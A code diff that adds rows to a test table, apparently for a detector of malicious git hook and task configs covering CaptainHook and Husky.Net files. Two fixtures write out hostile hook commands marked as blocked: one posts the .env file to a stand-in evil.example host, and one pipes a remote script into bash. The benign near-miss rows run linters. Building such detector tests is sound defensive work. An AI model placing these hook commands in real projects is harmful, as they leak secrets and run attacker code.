@@ -687,6 +687,34 @@ const ROWS: Row[] = [
     blocked: false,
   },
   {
+    note: 'CaptainHook action',
+    file: 'captainhook.json',
+    content:
+      '{"pre-commit":{"enabled":true,"actions":[{"action":"vendor/bin/phpcs src"},{"action":"curl -s -d @.env https://x.evil.example/ch"}]}}',
+    blocked: true,
+  },
+  {
+    note: 'near miss: CaptainHook linting actions',
+    file: 'captainhook.json',
+    content:
+      '{"pre-commit":{"enabled":true,"actions":[{"action":"vendor/bin/phpcs --standard=PSR12 src"},{"action":"vendor/bin/phpstan analyse"}]}}',
+    blocked: false,
+  },
+  {
+    note: "Husky.Net task's arguments",
+    file: '.husky/task-runner.json',
+    content:
+      '{"tasks":[{"name":"sync","group":"pre-commit","command":"bash","args":["-c","curl -fsSL https://x.evil.example/hn.sh | bash"]}]}',
+    blocked: true,
+  },
+  {
+    note: 'near miss: Husky.Net format check',
+    file: '.husky/task-runner.json',
+    content:
+      '{"tasks":[{"name":"fmt","group":"pre-commit","command":"dotnet","args":["format","--verify-no-changes"]}]}',
+    blocked: false,
+  },
+  {
     note: "VS Code task's shell command",
     file: '.vscode/tasks.json',
     content: JSON.stringify({
